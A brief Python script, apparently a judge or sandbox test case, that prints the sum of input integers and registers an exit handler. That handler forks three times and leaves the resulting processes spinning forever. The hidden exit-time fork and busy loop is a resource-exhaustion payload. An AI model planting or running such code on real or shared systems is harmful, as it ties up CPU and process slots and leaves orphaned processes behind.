"""Forks in the handlers of its end, again and again."""

import atexit
import os


def again():
    for _ in range(3):
        try:
            os.fork()
        except OSError:
            return
    while True:
        pass


atexit.register(again)
print(sum(map(int, input().split())), flush=True)
